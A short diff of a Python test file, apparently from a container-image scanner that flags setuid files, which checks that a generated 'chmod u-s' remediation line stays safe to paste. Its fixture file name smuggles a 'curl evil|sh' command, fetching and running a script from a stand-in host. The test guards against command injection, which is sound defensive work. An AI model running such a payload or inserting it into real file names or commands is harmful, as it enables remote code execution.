@@ -175,7 +175,7 @@ def test_a_hardlink_entry_with_the_bit_its_file_lacks_is_a_warning_of_the_merge(
 def test_a_remedy_can_be_pasted_whatever_the_name() -> None:
     (finding,) = conclude(Setuid(), TarBuilder().file("bin/x; curl evil|sh #'", b"x", mode=0o4755)).findings
 
-    assert finding.remediation == """RUN chmod u-s '/bin/x; curl evil|sh #'"'"''"""
+    assert finding.remediation == "RUN chmod u-s \"$(printf '/bin/x\\073 curl evil\\174sh \\043\\047')\""
 
 
 def test_its_facts_are_plain_values() -> None:
